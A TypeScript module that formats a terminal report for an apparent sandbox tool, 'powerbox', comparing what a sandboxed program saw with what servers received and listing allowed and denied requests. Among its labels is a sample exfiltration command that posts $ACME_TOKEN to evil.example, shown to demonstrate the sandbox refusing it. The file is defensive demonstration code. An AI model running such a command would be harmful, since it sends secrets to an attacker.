import { styleText } from 'node:util';
import type { Claim, Evidence } from './evidence.ts';

const WIDTH = 80;
const COLUMN = 38;

type Style = 'bold' | 'dim' | 'red' | 'green' | 'yellow';
export type Paint = (style: Style, text: string) => string;

export function painter(colour: boolean): Paint {
  return (style, text) => (colour ? styleText(style, text, { validateStream: false }) : text);
}

/** What happened, the box on the left and the servers on the right, in lines of 80 columns. */
export function sides(evidence: Evidence, paint: Paint): readonly string[] {
  const part = (name: string): string => evidence.parts.get(name) ?? '(nothing)';
  const { token, placeholder, apiReceived, gitReceived, commits } = evidence;
  const both = (what: string, left: string, right: string): readonly string[] => [
    '',
    paint('dim', `  $ ${what}`),
    ...columns(left, right, (text, side) =>
      mark(text, { token, placeholder, paint, plain: side === 'right' ? 'green' : 'bold' }),
    ),
  ];
  return [
    paint('bold', row('WHAT THE BOX SAW', 'WHAT THE SERVERS RECEIVED')),
    ...both('printenv ACME_TOKEN', placeholder, `(the vault holds ${token})`),
    ...both('curl https://api.acme.example/v1/me', part('me'), apiReceived[0] ?? 'nothing'),
    ...both(
      'curl https://api.acme.example/echo',
      /"authorization","([^"]*)"/i.exec(part('echo'))?.[1] ?? part('echo'),
      apiReceived[1] ?? 'nothing',
    ),
    ...both(
      'git push https://git.acme.example/notes.git',
      part('push').split('\n').at(-1)?.trim() ?? '',
      `Basic ${gitReceived.at(-1) ?? 'nothing'}\ncommit "${commits[0]}"`,
    ),
    ...both(
      'curl -d loot=$ACME_TOKEN https://evil.example/echo',
      refusalIn(part('theft')),
      evidence.evilConnections === 0 ? 'nothing: no connection was made' : 'A CONNECTION',
    ),
  ];
}

/** A line for each row of `powerbox log --json`, and one for why when it was refused. */
export function journal(evidence: Evidence, paint: Paint): readonly string[] {
  const { log, verify } = evidence;
  const lines = log.stdout.split('\n').filter((line) => line !== '');
  const rows = lines.flatMap((line) => rowLines(line, paint));
  const verified = verify.stdout.split('\n')[0] || verify.stderr.trim();
  return [
    paint('bold', '  THE JOURNAL') + paint('dim', '  $ powerbox log; powerbox log verify'),
    '',
    ...rows,
    ...(log.status === 0 ? [] : [`  ${log.stderr.trim()}`]),
    `  ${verified}`,
  ];
}

interface LogRow {
  readonly kind: string;
  readonly program?: readonly string[];
  /** Of a use of a power; of a compartment what became of it. */
  readonly call?: string;
  readonly state?: string;
  readonly method?: string;
  readonly url?: string;
  readonly verdict?: string;
  readonly reason?: string;
  readonly status?: number | null;
  readonly secrets?: readonly string[];
}

function rowLines(line: string, paint: Paint): readonly string[] {
  const row = JSON.parse(line) as LogRow;
  if (row.kind === 'box-start') return [`  start  ${row.program?.join(' ')}`];
  if (row.kind === 'box-end') return [`  end    ${row.reason}, status ${row.status}`];
  if (row.kind === 'use')
    return [`  ${paint('green', 'allow')}  ${row.call?.replace('https://', '')}`];
  if (row.kind === 'compartment') return [`  code   compartment ${row.state}`];
  if (row.kind !== 'request') return [`  ${row.kind}`];
  const url = row.url?.replace('https://', '');
  const details = `  ${row.method?.padEnd(4)}  ${url}`;
  if (row.verdict !== 'allow') {
    const reason = fold(row.reason ?? '', WIDTH - 9).map((text) => `         ${text}`);
    return [`  ${paint('red', 'deny')} ${details}`, ...reason];
  }
  const end = [row.status ?? '…', ...(row.secrets ?? [])].join('  ');
  return [`  ${paint('green', 'allow')}${details}  ${end}`];
}

export function verdicts(claims: readonly Claim[], paint: Paint): readonly string[] {
  return claims.map(
    ({ text, holds }) => `  ${holds ? paint('green', 'yes') : paint('red', 'NO ')}    ${text}`,
  );
}

function refusalIn(answer: string): string {
  const [body = '', status = ''] = answer.split('\n');
  try {
    const { error, message } = JSON.parse(body) as Record<string, unknown>;
    return `${status} ${error}\n${message}`;
  } catch {
    return answer;
  }
}

/** Two texts beside each other; `dress` may add colour, which takes no room. */
function columns(
  left: string,
  right: string,
  dress: (text: string, side: 'left' | 'right') => string,
): readonly string[] {
  const [lefts, rights] = [left, right].map((text) =>
    text.split('\n').flatMap((line) => fold(line, COLUMN)),
  ) as [string[], string[]];
  return Array.from({ length: Math.max(lefts.length, rights.length) }, (_, index) => {
    const [text, beside] = [lefts[index] ?? '', rights[index] ?? ''];
    const padding = ' '.repeat(COLUMN - text.length + 2);
    return `  ${dress(text, 'left')}${padding}${dress(beside, 'right')}`.trimEnd();
  });
}

function row(left: string, right: string): string {
  return `  ${left.padEnd(COLUMN + 2)}${right}`;
}

/** Breaks at spaces, and within a word only when it is longer than a line. */
function fold(text: string, width: number): readonly string[] {
  const lines: string[] = [];
  let rest = text;
  while (rest.length > width) {
    const space = rest.lastIndexOf(' ', width);
    const end = space > 0 ? space : width;
    lines.push(rest.slice(0, end).trimEnd());
    rest = rest.slice(end).trimStart();
  }
  return [...lines, rest];
}

function mark(
  text: string,
  how: { token: string; placeholder: string; paint: Paint; plain: Style },
): string {
  const { token, placeholder, paint } = how;
  const shown = placeholder === '' ? text : text.replace(placeholder, paint('yellow', placeholder));
  return shown.replace(token, paint('red', token));
}
